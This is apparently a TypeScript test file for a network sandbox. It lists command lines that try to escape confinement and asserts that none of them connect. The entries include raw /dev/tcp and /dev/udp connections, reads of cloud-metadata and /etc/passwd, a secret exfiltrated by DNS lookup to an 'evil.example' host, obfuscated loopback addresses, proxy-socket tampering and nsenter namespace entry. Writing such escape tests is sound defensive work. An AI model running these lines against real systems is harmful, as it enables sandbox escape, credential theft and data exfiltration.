import assert from 'node:assert/strict';
import type { NetworkPlace } from './network-place.ts';

/** Lines that must reach nothing, each of which prints `reached` when it did. */
export const networkEscapes: Readonly<Record<string, (place: NetworkPlace) => string>> = {
  'another port of the host': ({ other }) => `node ask.cjs http://db.internal:${other}/`,
  'another port, by a tunnel': ({ other }) => `node ask.cjs db.internal:${other} CONNECT | sed s/connect.200/reached/`,
  'a service of this machine by its address': ({ other }) => `node ask.cjs http://127.0.0.1:${other}/`,
  'the same host by its address': ({ granted }) => `node ask.cjs http://127.0.0.1:${granted}/`,
  'a service of this machine without the proxy': ({ other }) => `exec 3<>/dev/tcp/127.0.0.1/${other} && echo reached`,
  'the host without the proxy': ({ granted }) => `exec 3<>/dev/tcp/127.0.0.1/${granted} && echo reached`,
  'another machine without the proxy': () => '(exec 3<>/dev/tcp/192.0.2.1/80) && echo reached',
  'another machine by a packet': () => '(echo x > /dev/udp/192.0.2.1/53) && echo reached',
  'a name that is asked for': () => 'getent hosts db.internal example.org && echo reached',
  'a secret told by a name': () => `node ask.cjs http://c2VjcmV0.evil.example:80/`,
  'an address of IPv6': ({ other }) => `node ask.cjs http://[::1]:${other}/`,
  'an address of IPv4 in one of IPv6': ({ other }) => `node ask.cjs http://[::ffff:127.0.0.1]:${other}/`,
  'an address as one number': ({ other }) => `node ask.cjs http://2130706433:${other}/`,
  'an address in octal': ({ other }) => `node ask.cjs http://0177.0.0.1:${other}/`,
  'a name that is turned to this machine': ({ other }) => `node ask.cjs http://turned.example:${other}/`,
  'keys of a cloud': () => 'node ask.cjs http://169.254.169.254/latest/ | grep -v 403 && echo reached',
  'a file by the proxy': () => 'node ask.cjs file:///etc/passwd | grep root: && echo reached',
  'the socket of the proxy put away': () =>
    '(mv /run/network /tmp/n || rm /run/network/proxy || ln -sf /x /run/network/proxy) && echo reached',
  'a raw socket': () =>
    `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('reached')"`,
  'the machine’s own network': () => 'nsenter -t 1 -n true && echo reached',
  'an address of its own': () => 'ip addr add 192.0.2.9/24 dev lo && echo reached',
};

/** Tries one, and throws when anything was reached. */
export async function tryNetworkEscape(place: NetworkPlace, line: (place: NetworkPlace) => string): Promise<void> {
  const { far, granted, other } = place;
  [far.granted, far.other] = [0, 0];
  const hosts = [`private:db.internal:${granted}`, `turned.example:${other}`];
  const { printed, end } = await place.run(line(place), { hosts });
  assert.ok(end.kind === 'exited' && end.confined, `it ended as ${JSON.stringify(end)}`);
  assert.doesNotMatch(printed, /reached|connect 200/);
  assert.deepEqual(far, { granted: 0, other: 0 });
}
